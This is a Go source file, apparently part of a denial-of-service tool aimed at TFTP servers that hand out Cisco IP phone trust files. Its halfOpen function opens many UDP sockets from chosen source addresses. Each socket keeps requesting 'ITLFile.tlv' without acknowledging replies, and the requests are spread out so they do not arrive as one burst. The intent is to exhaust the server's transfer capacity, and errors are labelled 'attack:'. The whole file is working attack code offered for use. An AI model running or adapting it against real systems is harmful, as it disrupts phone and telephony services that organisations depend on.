package main

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync/atomic"
	"time"
)

// askAgain is after what time a transfer is asked for again, as a phone does that has
// heard nothing.
const askAgain = 4 * time.Second

// asked counts requests for files.
var asked atomic.Uint64

// halfOpen asks for transfers, each from a port of its own, acknowledges nothing, and
// asks again.
func halfOpen(ctx context.Context, node netip.AddrPort, transfers int, from func() netip.Addr) {
	request := []byte("\x00\x01ITLFile.tlv\x00octet\x00")
	var sockets []*net.UDPConn
	defer func() {
		for _, s := range sockets {
			s.Close()
		}
	}()
	for range transfers {
		s, err := net.DialUDP("udp4", &net.UDPAddr{IP: from().AsSlice()}, net.UDPAddrFromAddrPort(node))
		if err != nil {
			fmt.Fprintln(os.Stderr, "attack:", err)
			break
		}
		sockets = append(sockets, s)
	}
	const parts = 100 // of a round, so that it is no single burst
	for part := 0; ctx.Err() == nil; part = (part + 1) % parts {
		for i := part; i < len(sockets); i += parts {
			sockets[i].Write(request)
			asked.Add(1)
		}
		pause(ctx, askAgain/parts)
	}
}
